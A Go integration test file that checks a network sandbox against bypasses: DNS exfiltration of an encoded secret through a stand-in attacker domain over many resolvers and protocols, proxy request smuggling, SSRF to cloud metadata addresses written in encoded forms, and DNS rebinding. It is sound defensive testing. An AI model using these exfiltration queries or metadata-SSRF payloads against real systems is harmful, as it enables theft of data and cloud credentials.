// SPDX-License-Identifier: Apache-2.0

package integration

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
)

// TestBypass_B17_DNS: nothing that is told to a name server leaves, whichever
// server, protocol and type of record (B17, B18, B19).
func TestBypass_B17_DNS(t *testing.T) {
	t.Parallel()
	b := newBox(t, boxOptions{uplink: true})
	inside, inside6 := b.up.Inside().String(), b.up.Inside6().String()
	const secret = "c2VjcmV0.attacker.test"
	for _, kind := range []string{"A", "AAAA", "TXT", "NULL", "HTTPS", "SVCB", "MX", "ANY"} {
		for _, at := range []struct{ network, server string }{
			{"udp", inside + ":53"}, {"tcp", inside + ":53"}, {"udp", "[" + inside6 + "]:53"},
		} {
			t.Run(fmt.Sprintf("%s over %s to %s", kind, at.network, at.server), func(t *testing.T) {
				if out := b.at(t).refused("/bin/probe", "query", at.network, at.server, kind, secret); out != "ok: NXDOMAIN" {
					t.Errorf("printed %q", out)
				}
			})
		}
	}
	for _, tc := range []struct {
		name string
		argv []string
		want string
	}{
		{"C library's way", []string{"lookup", secret}, "error: "},
		{"public resolver", []string{"query", "udp", "8.8.8.8:53", "A", secret}, "ok: NXDOMAIN"},
		{"public resolver over TCP", []string{"query", "tcp", "8.8.8.8:53", "A", secret}, "ok: NXDOMAIN"},
		{"public resolver over IPv6", []string{"query", "udp", "[2001:4860:4860::8888]:53", "A", secret}, "ok: NXDOMAIN"},
		{"Docker's resolver", []string{"query", "udp", "127.0.0.11:53", "A", secret}, "ok: NXDOMAIN"},
		{"DNS over TLS", []string{"say", "tcp", inside + ":853", secret}, "error: "},
		{"public DNS over TLS", []string{"say", "tcp", "1.1.1.1:853", secret}, "error: "},
		{"DNS over HTTPS", []string{"direct", "POST", "https://1.1.1.1/dns-query", secret}, ""},
		{"mDNS", []string{"query", "udp", "224.0.0.251:5353", "A", "c2VjcmV0.local"}, "error: "},
		{"mDNS over IPv6", []string{"query", "udp", "[ff02::fb%eth0]:5353", "A", "c2VjcmV0.local"}, "error: "},
		{"LLMNR", []string{"query", "udp", "224.0.0.252:5355", "A", "c2VjcmV0"}, "error: "},
		{"DNS at another port", []string{"query", "udp", inside + ":5300", "A", secret}, "error: "},
		{"CONNECT to it", []string{"say", "tcp", "127.0.0.1:15001", `CONNECT ` + secret + `:443 HTTP/1.1\r\nHost: ` + secret + `:443\r\n\r\n`}, `ok: "HTTP/1.1 403 `},
		{"absolute form", []string{"say", "tcp", "127.0.0.1:15001", `GET http://` + secret + `/ HTTP/1.1\r\nHost: ` + secret + `\r\n\r\n`}, `ok: "HTTP/1.1 403 `},
		{"allowed name as a label", []string{"lookup", "c2VjcmV0.api.test"}, "error: "},
		{"name of a denied host", []string{"lookup", "denied.test"}, "error: "},
		{"service binding of an allowed name", []string{"query", "udp", inside + ":53", "HTTPS", "api.test"}, "ok: NOERROR"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if out := b.at(t).refused(append([]string{"/bin/probe"}, tc.argv...)...); !strings.HasPrefix(out, tc.want) || strings.Contains(out, "upstream") {
				t.Errorf("printed %q, want %q…", out, tc.want)
			}
		})
	}
	t.Run("an allowed name has an address of nobody's", func(t *testing.T) {
		b := b.at(t)
		for kind, want := range map[string]string{"A": "ok: NOERROR A 198.1", "AAAA": "ok: NOERROR AAAA fd6f:7368:656c:6c00::"} {
			if out := b.refused("/bin/probe", "query", "udp", "8.8.8.8:53", kind, "api.test"); !strings.HasPrefix(out, want) {
				t.Errorf("%s printed %q, want %q…", kind, out, want)
			}
		}
	})
}

// specialPolicy lets one program reach hosts that resolve to where they should not.
const specialPolicy = `version: 1
filesystem_policy: {read_only: [/bin, /etc, /proc], read_write: [/tmp]}
network_policies:
  special:
    endpoints:
      - {host: exact.test, port: 80}
      - {host: "*.special.test", port: 80}
      - {host: 169.254.169.254, port: 80}
      - {host: 127.0.0.1, port: 80}
      - {host: "fd00:ec2::254", port: 80}
    binaries: [{path: /bin/probe}]
`

// TestBypass_B14_SpecialAddresses: metadata services and the like are not reached,
// neither by address nor by an allowed name that resolves there (B14, B15).
func TestBypass_B14_SpecialAddresses(t *testing.T) {
	t.Parallel()
	b := newBox(t, boxOptions{uplink: true, policy: specialPolicy})
	never := []string{
		"169.254.169.254", "169.254.170.2", "fd00:ec2::254", "100.100.100.200", "168.63.129.16", "127.0.0.1", "127.0.0.53", "0.0.0.0", "::1", "::",
		"fe80::1", "::ffff:169.254.169.254", "::ffff:127.0.0.1", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1", "224.0.0.1", "ff02::1", "255.255.255.255",
	}
	// A wildcard reaches public addresses only.
	private := []string{"10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "fc00::1", "198.18.0.1", "::ffff:10.0.0.1", "::10.0.0.1", "2001::1", "192.0.0.1", "240.0.0.1"}
	for i, a := range append(never, private...) {
		addr := netip.MustParseAddr(a)
		name := fmt.Sprintf("n%d.special.test", i)
		b.up.Name(name, func(int) []netip.Addr { return []netip.Addr{addr} })
		t.Run("by name "+a, func(t *testing.T) {
			b := b.at(t)
			b.up.Reset()
			out := b.exec("/bin/probe", "http", "GET", "http://"+name+"/")
			b.onlyAsked(out)
			if addr.Is4In6() || netip.MustParsePrefix("198.18.0.0/15").Contains(addr) {
				return // which no AAAA record has, or which is the sandbox's own: no address
			}
			if !strings.Contains(out, `{"error":"ssrf_denied"`) {
				t.Errorf("printed %q", out)
			}
		})
	}
	for i, a := range never {
		addr := netip.MustParseAddr(a)
		b.up.Name("exact.test", func(int) []netip.Addr { return []netip.Addr{addr} })
		t.Run("by exact name "+a, func(t *testing.T) {
			b := b.at(t)
			b.up.Reset()
			b.onlyAsked(b.exec("/bin/probe", "http", "GET", fmt.Sprintf("http://exact.test/%d", i)))
		})
	}
	for _, a := range []string{
		"169.254.169.254", "169.254.170.2", "[fd00:ec2::254]", "100.100.100.200", "[::ffff:a9fe:a9fe]", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518",
	} {
		t.Run("by address "+a, func(t *testing.T) {
			b := b.at(t)
			b.refused("/bin/probe", "direct", "GET", "http://"+a+"/latest/meta-data/")
			b.refused("/bin/probe", "say", "tcp", "127.0.0.1:15001", `GET http://`+a+`/latest/ HTTP/1.1\r\nHost: `+a+`\r\n\r\n`)
		})
	}
	t.Run("a public address is tried", func(t *testing.T) {
		b := b.at(t)
		b.up.Name("public.special.test", func(int) []netip.Addr { return []netip.Addr{netip.MustParseAddr("8.8.4.4")} })
		b.up.Reset()
		wait := b.start(nil, "/bin/probe", "http", "GET", "http://public.special.test/")
		b.until("a connection to it leaves", func() bool {
			for _, p := range b.up.Arrived() {
				if p.To.String() == "8.8.4.4:80" {
					return true
				}
			}
			return false
		})
		wait()
	})
}

// onlyAsked fails if anything but a question for a name reached the upstream.
func (b *box) onlyAsked(out string) {
	b.t.Helper()
	if strings.HasPrefix(out, "ok: HTTP/1.1 200") || len(b.up.Requests()) > 0 {
		b.t.Errorf("printed %q, requests %v", out, b.up.Requests())
	}
	for _, p := range b.up.Arrived() {
		if p.To.Port() != 53 {
			b.t.Errorf("printed %q, and the upstream got %v", out, p)
		}
	}
}

// TestBypass_B16_Rebinding: a name whose addresses change between the check and
// the connection, or of which only some are harmless, is not followed.
func TestBypass_B16_Rebinding(t *testing.T) {
	t.Parallel()
	b := newBox(t, boxOptions{uplink: true, policy: specialPolicy})
	good := b.up.Inside()
	for _, bad := range []string{"127.0.0.1", "169.254.169.254"} {
		evil := netip.MustParseAddr(bad)
		t.Run("then "+bad, func(t *testing.T) {
			b := b.at(t)
			b.up.Name("exact.test", func(nth int) []netip.Addr {
				if nth == 0 {
					return []netip.Addr{good}
				}
				return []netip.Addr{evil}
			})
			b.allowed("/bin/probe", "http", "GET", "http://exact.test/first")
			// The first answer's questions are not forgotten: this is the second.
			before := len(b.up.Requests())
			for range 3 {
				if out := b.exec("/bin/probe", "http", "GET", "http://exact.test/second"); !strings.Contains(out, "ssrf_denied") {
					t.Errorf("printed %q", out)
				}
			}
			if r := b.up.Requests(); len(r) != before {
				t.Errorf("the upstream got %v", r[before:])
			}
			for _, p := range b.up.Arrived() {
				if p.To.Addr() == evil {
					t.Errorf("the upstream got %v", p)
				}
			}
		})
		t.Run("one of two is "+bad, func(t *testing.T) {
			b := b.at(t)
			for _, both := range [][]netip.Addr{{good, evil}, {evil, good}} {
				b.up.Name("exact.test", func(int) []netip.Addr { return both })
				b.up.Reset()
				out := b.exec("/bin/probe", "http", "GET", "http://exact.test/")
				if b.onlyAsked(out); !strings.Contains(out, "ssrf_denied") {
					t.Errorf("printed %q", out)
				}
			}
		})
	}
	t.Run("the address that the client claims counts for nothing", func(t *testing.T) {
		b := b.at(t)
		b.up.Name("exact.test", func(int) []netip.Addr { return []netip.Addr{good} })
		b.up.Reset()
		out := b.exec("/bin/probe", "say", "tcp", "8.8.4.4:80", `GET /claimed HTTP/1.1\r\nHost: exact.test\r\nConnection: close\r\n\r\n`)
		for _, p := range b.up.Arrived() {
			if p.To.Addr() != good {
				t.Errorf("printed %q, and the upstream got %v", out, p)
			}
		}
	})
}
